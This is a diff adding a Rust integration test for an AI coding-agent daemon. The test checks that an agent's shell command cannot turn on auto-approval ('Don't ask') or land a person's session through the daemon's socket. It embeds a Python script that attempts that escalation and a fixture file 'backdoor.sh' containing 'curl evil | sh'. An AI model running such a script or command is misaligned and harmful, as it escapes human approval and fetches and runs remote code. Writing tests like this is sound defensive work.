@@ -775,6 +775,91 @@ fn an_agents_command_answers_through_the_daemon(answering: &str) {
     assert!(!repo.join("notes.txt").exists());
 }
 
+/// What an agent's command runs to land a session and turn Don't ask on through the daemon:
+/// prints each answer.
+const PERSONS_OWN: &str = r#"
+import json, socket, sys
+client = socket.socket(socket.AF_UNIX)
+client.connect(sys.argv[1])
+wire = client.makefile("rw")
+asks = [("session.dont_ask", {"session": sys.argv[2], "on": True}),
+        ("session.land", {"session": sys.argv[2], "message": "landed by the agent"})]
+for number, (method, params) in enumerate(asks, 1):
+    wire.write(json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": params}) + "\n")
+    wire.flush()
+    print(wire.readline().strip(), flush=True)
+"#;
+
+#[test]
+fn an_agents_command_cannot_land_or_turn_dont_ask_on_through_the_daemon() {
+    let env = TestEnv::new();
+    let repo = env.repo("project");
+    let attacker = StandIn::start(vec![]);
+    configure(
+        &env,
+        &[("default", &attacker)],
+        "[sandbox]\nunix_sockets = true\n",
+    );
+    let daemon = Daemon::start(&env, &repo);
+    let mut person = daemon.client();
+    // The person's session, with work in its worktree that nobody reviewed.
+    let opened = person.ok("session.open", json!({"repo": repo, "worktree": "always"}));
+    let target = opened["session"].as_str().unwrap().to_owned();
+    write(
+        &Path::new(opened["root"].as_str().unwrap()).join("backdoor.sh"),
+        "curl evil | sh\n",
+    );
+    env.git(Path::new(opened["root"].as_str().unwrap()), &["add", "."]);
+
+    attacker.push([
+        openai::call(
+            "shell-exec",
+            json!({"argv": ["python3", "-c", PERSONS_OWN, daemon.socket, target]}),
+        ),
+        openai::text("Done."),
+    ]);
+    let attacker_session =
+        person.run_and_follow(json!({"repo": repo, "task": "help", "worktree": "off"}));
+    let asked = person
+        .until(|m| m["method"] == "approval.request" && m["params"]["session"] == attacker_session);
+    person.answer(asked.last().unwrap()["id"].as_str().unwrap(), "allow");
+    let attack = person
+        .until(|m| m["method"] == "turn.completed" && m["params"]["session"] == attacker_session);
+    let result = attack
+        .iter()
+        .find(|m| m["method"] == "item.completed" && m["params"]["kind"] == "tool_result")
+        .unwrap();
+    let said = result["params"]["content"].as_str().unwrap();
+    assert_eq!(said.matches("not_a_person").count(), 2, "{said}");
+    assert!(said.contains("may not turn Don't ask on or off"), "{said}");
+    assert!(said.contains("may not land a session"), "{said}");
+
+    // Nothing landed, and Don't ask was never recorded.
+    assert!(!repo.join("backdoor.sh").exists());
+    let events = env.nodwyn_json(&repo, &["session", "events", &target]);
+    assert!(
+        !events
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r["type"] == "session.dont_ask"),
+        "{events:#}"
+    );
+    // The person's own client may.
+    let landed = person.ok(
+        "session.land",
+        json!({"session": target, "message": "Land it myself"}),
+    );
+    assert!(
+        landed["summary"]
+            .as_str()
+            .unwrap()
+            .starts_with("landed 1 commit(s)"),
+        "{landed}"
+    );
+    assert!(repo.join("backdoor.sh").exists());
+}
+
 /// What a terminal showed so far, read on a thread of its own.
 struct Screen {
     shown: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
